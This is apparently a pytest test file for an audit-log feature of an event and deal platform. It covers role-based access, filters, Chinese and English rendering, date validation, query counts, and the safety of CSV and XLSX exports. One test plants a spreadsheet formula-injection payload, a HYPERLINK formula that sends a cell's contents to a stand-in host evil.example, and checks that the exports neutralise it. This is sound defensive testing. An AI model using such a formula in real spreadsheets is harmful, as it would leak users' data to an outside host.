"""The audit log an organiser reads and exports: who may read what, the filters, readable rows in both languages,
exports that a spreadsheet never runs, and a page that costs the same number of statements however long it is."""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from duijie.audit.export import safe_cell
from duijie.core.auth import Actor
from duijie.deals import service as deal_service
from duijie.directory.accounts import actor_for_account
from duijie.directory.models import Account
from duijie.events.models import Event
from tests import factories
from tests.audit import factories as af
from tests.conftest import StatementCounter, csrf_of, in_english, login
from tests.deals import factories as df

BEIJING = dt.timezone(dt.timedelta(hours=8))


@dataclass
class World:
    """Two events, each with one audited deal change, a city-wide policy change, and accounts around them."""

    one: Event
    two: Event
    organiser: Account  # city-wide
    event_organiser: Account  # organiser of `one` only
    editor: Account  # the organiser who made the changes
    token: str  # a word in every note of this world, to find its entries among the demo's


@pytest.fixture
def world(db: Session) -> World:
    one, two = factories.event(db), factories.event(db)
    editor = factories.account(db, role="organiser")
    by = actor_for_account(editor)
    token = "auditworld"
    deal_one, deal_two = df.deal(db, one, title_zh="一号活动的签约"), df.deal(db, two, title_zh="二号活动的签约")
    af.entry(db, actor=by, entity_type="deal", entity_id=deal_one.id, action="update", event_id=one.id,
             before={"district": "海淀区"}, after={"district": "朝阳区"}, note=f"{token} one")
    af.entry(db, actor=by, entity_type="deal", entity_id=deal_two.id, action="update", event_id=two.id,
             before={"district": "海淀区"}, after={"district": "东城区"}, note=f"{token} two")
    af.entry(db, actor=by, entity_type="policy", entity_id=999_999, action="update", event_id=None,
             before={"name_zh": "旧"}, after={"name_zh": "新"}, note=f"{token} city")
    return World(
        one=one,
        two=two,
        organiser=factories.account(db, role="organiser"),
        event_organiser=factories.account(db, role="organiser", event=one),
        editor=editor,
        token=token,
    )


def _as(client: TestClient, account: Account) -> TestClient:
    login(client, account.username, factories.PASSWORD)
    return client


def _notes(client: TestClient, **params: str) -> list[str]:
    body = client.get("/api/v1/audit", params={"page_size": "200", **params}).json()
    return sorted(item["note"] for item in body["items"])


def test_a_city_wide_organiser_reads_the_entries_of_every_event_and_of_the_city(client: TestClient, world: World) -> None:
    _as(client, world.organiser)
    assert _notes(client, q=world.token) == ["auditworld city", "auditworld one", "auditworld two"]


def test_an_event_organiser_reads_only_the_entries_of_its_event(client: TestClient, world: World) -> None:
    _as(client, world.event_organiser)
    assert _notes(client, q=world.token) == ["auditworld one"]
    assert client.get("/api/v1/audit").json()["total"] == 1
    page = client.get("/audit")
    assert page.status_code == 200
    assert "一号活动的签约" in page.text and "二号活动的签约" not in page.text and "auditworld city" not in page.text
    # The other event is not among the choices, and asking for it by name is refused beside the field.
    assert f'value="{world.two.slug}"' not in page.text
    refused = client.get("/audit", params={"event": world.two.slug})
    assert refused.status_code == 422 and "二号活动的签约" not in refused.text
    assert client.get("/api/v1/audit", params={"event": world.two.slug}).status_code == 422


def test_two_events_nothing_leaks_into_the_exports_of_an_event_organiser(client: TestClient, world: World) -> None:
    _as(client, world.event_organiser)
    text = client.get("/audit/export.csv").content.decode("utf-8-sig")
    assert "一号活动的签约" in text
    assert "二号活动的签约" not in text and "auditworld two" not in text and "auditworld city" not in text
    book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").content))
    values = {str(c.value) for row in book.active.iter_rows() for c in row}  # type: ignore[union-attr]
    assert "auditworld one" in values and "auditworld two" not in values and "auditworld city" not in values


@pytest.mark.parametrize("role", ["district", "investor", "judge", "enterprise"])
def test_accounts_that_do_not_organise_are_refused(client: TestClient, db: Session, role: str) -> None:
    account = factories.account(db, role=role, district="海淀区" if role == "district" else None)
    _as(client, account)
    for path in ("/audit", "/audit/sign-ins", "/audit/export.csv", "/audit/export.xlsx", "/api/v1/audit"):
        assert client.get(path, follow_redirects=False).status_code == 403, path


def test_an_anonymous_visitor_is_asked_to_log_in(client: TestClient) -> None:
    page = client.get("/audit", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"].startswith("/login?next=")
    assert client.get("/audit/export.csv", follow_redirects=False).status_code == 303
    assert client.get("/api/v1/audit").status_code == 401


def test_the_sign_in_log_is_for_the_city_wide_organiser_only(client: TestClient, db: Session, world: World) -> None:
    wrong = {"username": world.editor.username, "password": "wrong-password", "csrf": csrf_of(client, "/login")}
    assert client.post("/login", data=wrong, follow_redirects=False).status_code == 401
    _as(client, world.event_organiser)
    assert client.get("/audit/sign-ins").status_code == 403
    assert "/audit/sign-ins" not in client.get("/audit").text
    client.cookies.clear()
    _as(client, world.organiser)
    page = client.get("/audit/sign-ins", params={"q": world.organiser.username})
    assert page.status_code == 200 and world.organiser.person is not None
    assert world.organiser.person.name_zh in page.text and "成功" in page.text
    failed = client.get("/audit/sign-ins", params={"outcome": "failed", "q": world.editor.username})
    assert "失败" in failed.text and world.editor.username in failed.text


def test_filters_narrow_the_log(client: TestClient, db: Session, world: World) -> None:
    by = actor_for_account(world.organiser)
    af.entry(db, actor=by, entity_type="deal", entity_id=1, action="stage", event_id=world.one.id,
             note="auditworld old", at=dt.datetime(2025, 3, 1, 23, 30, tzinfo=BEIJING))
    _as(client, world.organiser)
    q = world.token
    assert _notes(client, q=q, event=world.two.slug) == ["auditworld two"]
    assert _notes(client, q=q, kind="policy") == ["auditworld city"]
    assert _notes(client, q=q, action="stage") == ["auditworld old"]
    assert _notes(client, q=q, who=str(world.organiser.id)) == ["auditworld old"]
    assert _notes(client, q=q, who=str(world.editor.id)) == ["auditworld city", "auditworld one", "auditworld two"]
    # Dates are days in Beijing: 23:30 on 1 March there is 15:30 UTC the same day.
    assert _notes(client, q=q, **{"from": "2025-03-01", "to": "2025-03-01"}) == ["auditworld old"]
    assert _notes(client, q=q, **{"to": "2025-02-28"}) == []
    assert _notes(client, q="auditworld tw") == ["auditworld two"]
    assert _notes(client, q="100%") == []


def test_a_wrong_date_gives_the_form_back_with_the_message_beside_the_field(client: TestClient, world: World) -> None:
    _as(client, world.organiser)
    page = client.get("/audit", params={"from": "2025-02-30", "q": "kept"})
    assert page.status_code == 422
    assert 'id="error-from">日期请写作 2026-04-25。</span>' in page.text
    assert 'name="q" value="kept"' in page.text and 'value="2025-02-30"' in page.text
    backwards = client.get("/audit", params={"from": "2025-03-02", "to": "2025-03-01"})
    assert 'id="error-to">截止日期早于起始日期。</span>' in backwards.text
    with in_english(client):
        page = client.get("/audit", params={"from": "tomorrow"})
        assert 'id="error-from">Write a date as 2026-04-25.</span>' in page.text
    api = client.get("/api/v1/audit", params={"to": "nope"})
    assert api.status_code == 422 and api.json()["error"]["details"][0]["field"] == "to"


def _signed_deal(db: Session, world: World) -> int:
    """A deal of event one moved to signed through the deal pipeline, by the editor."""
    deal = df.deal(db, world.one, stage="negotiating", title_zh="可读性测试签约", title_en="Readable deal")
    deal_service.move_deal_to_stage(
        db,
        actor=actor_for_account(world.editor),
        deal=deal,
        to="signed",
        note="auditworld signed",
        signed_amount=Decimal("200000000"),
        signed_on=dt.date(2026, 4, 25),
    )
    db.flush()
    return deal.id


def test_rows_read_as_words_in_chinese_and_english(client: TestClient, db: Session, world: World) -> None:
    deal_id = _signed_deal(db, world)
    editor = world.editor.person
    assert editor is not None
    _as(client, world.organiser)
    page = client.get("/audit", params={"q": "auditworld signed"}).text
    assert editor.name_zh in page and f'<a href="/deals/{deal_id}">可读性测试签约</a>' in page
    assert '<span class="field">阶段:</span> 洽谈中 → 论坛签约' in page
    assert '<span class="field">签约金额:</span> — → 2亿元' in page
    assert '<span class="field">签约日期:</span> — → 2026-04-25' in page
    assert "阶段变更" in page
    with in_english(client):
        page = client.get("/audit", params={"q": "auditworld signed"}).text
        assert editor.name_en in page and f'<a href="/deals/{deal_id}">Readable deal</a>' in page
        assert '<span class="field">Stage:</span> Negotiating → Signed at the forum' in page
        assert '<span class="field">Amount signed:</span> — → CNY 200 M' in page
        assert "Stage changed" in page
        item = client.get("/api/v1/audit", params={"q": "auditworld signed"}).json()["items"][0]
        assert item["url"] == f"/deals/{deal_id}" and item["actor"] == editor.name_en
        assert {"field": "stage", "label": "Stage", "before": "Negotiating", "after": "Signed at the forum"} in item["changes"]


def test_exports_never_run_a_cell_as_a_formula(client: TestClient, db: Session, world: World) -> None:
    by = actor_for_account(world.editor)
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    af.entry(db, actor=by, entity_type="deal", entity_id=1, action="update", event_id=world.one.id,
             after={"lost_reason": "@SUM(1)"}, note=attack + "\x07")
    _as(client, world.organiser)
    rows = list(csv.reader(io.StringIO(client.get("/audit/export.csv", params={"q": "HYPERLINK"}).content.decode("utf-8-sig"))))
    assert rows[1][-1] == "'" + attack
    book = load_workbook(io.BytesIO(client.get("/audit/export.xlsx", params={"q": "HYPERLINK"}).content))
    sheet = book.active
    assert sheet is not None
    note = sheet.cell(row=2, column=10)
    assert note.value == "'" + attack and note.data_type == "s"
    assert all(not str(c.value).startswith("=") for row in sheet.iter_rows() for c in row if c.value is not None)


def test_safe_cell_neutralises_every_formula_start_and_drops_control_characters() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1").startswith("'")
    assert safe_cell("\t=1") == "'=1"
    assert safe_cell("a\x00b\x1bc\nd") == "abc\nd"
    assert safe_cell("海淀区") == "海淀区" and safe_cell(-5) == -5


def test_a_page_of_fifty_entries_runs_as_many_statements_as_a_page_of_five(
    client: TestClient, db: Session, world: World, count_statements: StatementCounter
) -> None:
    by: Actor = actor_for_account(world.editor)
    for n in range(50):
        deal = df.deal(db, world.one if n % 2 else world.two)
        kind, entity_id = ("deal", deal.id) if n % 3 else ("event", world.one.id)
        af.entry(db, actor=actor_for_account(factories.account(db, role="organiser")) if n % 5 == 0 else by,
                 entity_type=kind, entity_id=entity_id, action="update", event_id=deal.event_id,
                 before={"stage": "lead"}, after={"stage": "contacted"}, note=f"nplusone {n}")
    _as(client, world.organiser)
    with count_statements as few:
        assert client.get("/audit", params={"q": "nplusone 4"}).status_code == 200  # 4, 40..49: 11 entries
    with count_statements as many:
        page = client.get("/audit", params={"q": "nplusone"})
    assert page.status_code == 200 and page.text.count('<time datetime=') == 50
    assert many.count == few.count
